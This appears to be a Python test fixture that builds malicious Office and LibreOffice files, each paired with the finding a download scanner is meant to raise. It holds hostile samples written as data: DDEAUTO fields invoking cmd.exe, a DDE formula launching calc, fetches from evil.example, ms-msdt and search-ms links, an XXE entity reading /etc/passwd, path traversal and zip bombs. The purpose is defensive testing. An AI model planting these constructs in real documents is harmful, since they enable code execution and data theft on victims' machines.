"""Office documents that nobody may offer, each made here, with the reason why it is refused."""

import zipfile

from downloads.examining.findings import Finding as F
from tests.downloads.examining.office_writer import (
    ODF_NAMES,
    SHEET,
    WORD,
    archive,
    docx,
    external,
    field,
    flagged_as_encrypted,
    formula,
    mark,
    odt,
    relation,
    types,
    word,
    xlsx,
)

TYPES = "[Content_Types].xml"
EVIL = "https://evil.example/a"
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
FROM_DISK = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def override(place: str, kind: str) -> str:
    return f'<Override PartName="{place}" ContentType="{kind}"/>'


def quoted_field() -> str:
    # The inner field writes the word of the outer one from the numbers of its letters.
    inner = f"{mark('begin')}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{mark('separate')}{mark('end')}"
    return f"<w:p>{mark('begin')}{inner}<w:r><w:instrText> cmd</w:instrText></w:r>{mark('end')}</w:p>"


HOSTILE_OFFICES: dict[str, tuple[str, bytes, F]] = {
    # Macros and programs
    "macros": ("docx", docx(**{"word/vbaProject.bin": "x"}), F.OFFICE_MACROS),
    "macros told by the kind of a part": (
        "docx",
        docx(**{TYPES: types("docx", override("/word/a.xml", "application/vnd.ms-word.macroEnabled+xml"))}),
        F.OFFICE_MACROS,
    ),
    "macros told in two bytes a letter": (
        "docx",
        docx(**{TYPES: ("\ufeff" + types("docx", override("/a.xml", "a.macroEnabled.main+xml"))).encode("utf-16-le")}),
        F.OFFICE_MACROS,
    ),
    "macros told by a relation": (
        "docx",
        docx(**{"word/_rels/document.xml.rels": relation("vbaProject", "a.xml"), "word/a.xml": "<a/>"}),
        F.OFFICE_MACROS,
    ),
    "controls": ("docx", docx(**{"word/activeX/activeX1.xml": "<a/>"}), F.OFFICE_MACROS),
    "a control in the text": ("docx", docx('<w:p><w:control w:name="x"/></w:p>'), F.OFFICE_MACROS),
    "a ribbon of its own": ("docx", docx(**{"customUI/customUI14.xml": "<a/>"}), F.OFFICE_MACROS),
    "a sheet of macros": ("xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}), F.OFFICE_MACROS),
    "a name that starts by itself": (
        "xlsx",
        xlsx(workbook='<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>'),
        F.OFFICE_MACROS,
    ),
    "macros of LibreOffice": ("odt", odt(**{"Basic/script-lc.xml": "<a/>"}), F.OFFICE_MACROS),
    "scripts of LibreOffice": ("odt", odt(**{"Scripts/python/evil.py": "x"}), F.OFFICE_MACROS),
    "a script in the text of LibreOffice": ("odt", odt("<text:script>x</text:script>"), F.OFFICE_MACROS),
    "a listener of LibreOffice": (
        "odt",
        odt('<script:event-listener xlink:href="vnd.sun.star.script:a?language=Basic"/>'),
        F.OFFICE_MACROS,
    ),
    "an object of another program": ("docx", docx(**{"word/embeddings/oleObject1.bin": "x"}), F.OFFICE_PROGRAMS),
    "an object without its ending": (
        "odt",
        odt(**{"Object 1": b"\xd0\xcf\x11\xe0" + b"\0" * 100}),
        F.OFFICE_PROGRAMS,
    ),
    "an object in a drawing": (
        "docx",
        docx(**{"word/drawings/vmlDrawing1.vml": "<xml><o:OLEObject/><br></xml>"}),
        F.OFFICE_PROGRAMS,
    ),
    "an object of LibreOffice": ("odt", odt('<draw:object-ole xlink:href="./a"/>'), F.OFFICE_PROGRAMS),
    "an applet": ("odt", odt('<draw:applet xlink:href="./a"/>'), F.OFFICE_PROGRAMS),
    "a program inside": ("docx", docx(**{"word/media/setup.exe": "MZ"}), F.OFFICE_PROGRAMS),
    "a page of HTML inside": ("docx", docx(**{"word/a.html": "<script>"}), F.OFFICE_FILES),
    "a film inside": ("docx", docx(**{"word/media/a.mp4": "x"}), F.OFFICE_FILES),
    "a document inside": ("docx", docx(**{"word/embeddings/a.docx": docx()}), F.OFFICE_FILES),
    "a chart with macros": (
        "docx",
        docx(**{"word/embeddings/a.xlsx": xlsx(**{"xl/vbaProject.bin": "x"})}),
        F.OFFICE_MACROS,
    ),
    "a text of another format, mixed in": (
        "docx",
        docx(**{"word/_rels/document.xml.rels": relation("aFChunk", "a.xml"), "word/a.xml": "<a/>"}),
        F.OFFICE_FILES,
    ),
    # Fields and formulas
    "a field that speaks with a program": (
        "docx",
        docx(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")),
        F.OFFICE_DDE,
    ),
    "a field in pieces": ("docx", docx(field(" D", "DE", "AUTO cmd")), F.OFFICE_DDE),
    "a field in a header": (
        "docx",
        docx(**{"word/header1.xml": f'<w:hdr xmlns:w="{WORD}">{field("DDE excel")}</w:hdr>'}),
        F.OFFICE_DDE,
    ),
    "a field under another prefix": (
        "docx",
        docx(**{"word/document.xml": word(field("DDE excel")).replace("w:", "x:").replace("xmlns:w", "xmlns:x")}),
        F.OFFICE_DDE,
    ),
    "a simple field": ("docx", docx('<w:p><w:fldSimple w:instr="dde excel a b"/></w:p>'), F.OFFICE_DDE),
    "a field whose word another field writes": ("docx", docx(quoted_field()), F.OFFICE_DDE),
    "a field that never ends": (
        "docx",
        docx(f"<w:p>{mark('begin')}<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"),
        F.OFFICE_DDE,
    ),
    "a field that takes in a text": ("docx", docx(field(f'INCLUDETEXT "{EVIL}"')), F.OFFICE_FETCHES),
    "a field that takes in a picture": ("docx", docx(field(f'INCLUDEPICTURE "{EVIL}"')), F.OFFICE_FETCHES),
    "a formula that speaks with a program": ("xlsx", xlsx(formula("cmd|'/c calc'!A0")), F.OFFICE_DDE),
    "a formula that calls a program": ("xlsx", xlsx(formula('CALL("urlmon","x","JJ",0)')), F.OFFICE_DDE),
    "a formula that fetches": ("xlsx", xlsx(formula(f'_xlfn.WEBSERVICE("{EVIL}")')), F.OFFICE_FETCHES),
    "a link to a program's data": (
        "xlsx",
        xlsx(**{"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET}"><ddeLink/></externalLink>'}),
        F.OFFICE_DDE,
    ),
    "a link to a program in LibreOffice": ("odt", odt("<text:dde-connection-decl/>"), F.OFFICE_DDE),
    "a formula of LibreOffice": (
        "ods",
        odt('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/>', "ods"),
        F.OFFICE_DDE,
    ),
    # From elsewhere
    "a template from elsewhere": (
        "docx",
        docx(**{"word/_rels/settings.xml.rels": external("attachedTemplate", f"{EVIL}.dotm")}),
        F.OFFICE_TEMPLATE,
    ),
    "a template from elsewhere, called internal": (
        "docx",
        docx(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "\\\\evil.example\\a.dotm")}),
        F.OFFICE_TEMPLATE,
    ),
    "a picture from elsewhere": (
        "docx",
        docx(**{"word/_rels/document.xml.rels": external("image", EVIL)}),
        F.OFFICE_FETCHES,
    ),
    "settings from elsewhere": (
        "docx",
        docx(**{"word/_rels/webSettings.xml.rels": external("frame", EVIL)}),
        F.OFFICE_FETCHES,
    ),
    "another table": (
        "xlsx",
        xlsx(**{"xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", "b.xlsx")}),
        F.OFFICE_FETCHES,
    ),
    "a connection to data": (
        "xlsx",
        xlsx(**{"xl/_rels/workbook.xml.rels": relation("connections", "a.xml")}),
        F.OFFICE_FETCHES,
    ),
    "a picture from elsewhere in LibreOffice": ("odt", odt(f'<draw:image xlink:href="{EVIL}"/>'), F.OFFICE_FETCHES),
    "a text beside it in LibreOffice": ("odt", odt('<text:section-source xlink:href="../a.odt"/>'), F.OFFICE_FETCHES),
    "a form that is sent": ("odt", odt(f'<form:form xlink:href="{EVIL}"/>'), F.OFFICE_FETCHES),
    "a document that loads itself anew": ("odt", odt(f'<meta:auto-reload xlink:href="{EVIL}"/>'), F.OFFICE_FETCHES),
    "a link to a share": (
        "docx",
        docx(**{"word/_rels/document.xml.rels": external("hyperlink", "file://evil.example/share")}),
        F.OFFICE_LINK,
    ),
    "a link that is a command": (
        "docx",
        docx(**{"word/_rels/document.xml.rels": external("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        F.OFFICE_LINK,
    ),
    "a link in a field": ("docx", docx(field('HYPERLINK "search-ms:query=a"')), F.OFFICE_LINK),
    "a link that is a macro": ("odt", odt('<text:a xlink:href="vnd.sun.star.script:a"/>'), F.OFFICE_LINK),
    # XML
    "entities that unfold": ("docx", docx(**{"word/document.xml": f"{LAUGHS}<a>&b;</a>"}), F.OFFICE_ENTITIES),
    "an entity from the disk": ("docx", docx(**{"word/settings.xml": f"{FROM_DISK}<a>&a;</a>"}), F.OFFICE_ENTITIES),
    "entities among the relations": ("docx", docx(**{"word/_rels/a.xml.rels": f"{LAUGHS}<a/>"}), F.OFFICE_ENTITIES),
    "entities in two bytes a letter": (
        "docx",
        docx(**{"word/a.xml": f"{LAUGHS}<a/>".encode("utf-16")}),
        F.OFFICE_ENTITIES,
    ),
    "entities of LibreOffice": ("odt", odt(**{"styles.xml": f"{LAUGHS}<a/>"}), F.OFFICE_ENTITIES),
    "XML that is none": ("docx", docx(**{"word/document.xml": "<a><b></a>"}), F.OFFICE_BROKEN),
    "XML under another name": (
        "docx",
        docx(**{TYPES: types("docx", override("/word/a.png", "a+xml")), "word/a.png": "<a/>"}),
        F.NOT_WHAT_IT_SAYS,
    ),
    # The archive
    "no archive": ("docx", b"PK\x03\x04 and then nothing", F.OFFICE_BROKEN),
    "an encrypted archive": ("docx", flagged_as_encrypted(docx()), F.OFFICE_PASSWORD),
    "an encrypted document": (
        "odt",
        odt(**{"META-INF/manifest.xml": f"<m {ODF_NAMES}><office:encryption-data/></m>", "content.xml": "garbage"}),
        F.OFFICE_PASSWORD,
    ),
    "a bomb": ("docx", docx(**{"word/media/a.png": b"\0" * 60_000_000}), F.OFFICE_BOMB),
    "very many parts": ("odt", odt(**{f"Pictures/{number}": "" for number in range(5_001)}), F.OFFICE_BOMB),
    "the way out of the folder": ("docx", docx(**{"../../evil.xml": "<a/>"}), F.OFFICE_BROKEN),
    "an absolute name": ("docx", docx(**{"/etc/passwd": "x"}), F.OFFICE_BROKEN),
    "a part twice": ("docx", docx(**{"word/Document.xml": "<other/>"}), F.OFFICE_BROKEN),
    "folded in a way that office doesn't know": (
        "docx",
        archive({TYPES: types("docx"), "word/document.xml": word()}, zipfile.ZIP_LZMA),
        F.OFFICE_BROKEN,
    ),
    "HTML before the archive": ("docx", b"PK\x03\x04<html>" + docx(), F.NOT_WHAT_IT_SAYS),
    "HTML behind the archive": ("docx", docx() + b"<html><script>alert(1)</script></html>", F.NOT_WHAT_IT_SAYS),
    "another kind of document": ("docx", odt(), F.NOT_WHAT_IT_SAYS),
    "a table under another name": ("odt", odt(kind="ods"), F.NOT_WHAT_IT_SAYS),
    "a template under the name of a document": (
        "docx",
        docx(**{TYPES: types("docx").replace("document.main", "template.main")}),
        F.NOT_WHAT_IT_SAYS,
    ),
    "an archive of anything": ("docx", archive({"page.xml": "<x/>"}), F.NOT_WHAT_IT_SAYS),
    "no kinds of parts": ("docx", archive({"word/document.xml": word()}), F.NOT_WHAT_IT_SAYS),
}  # fmt: skip
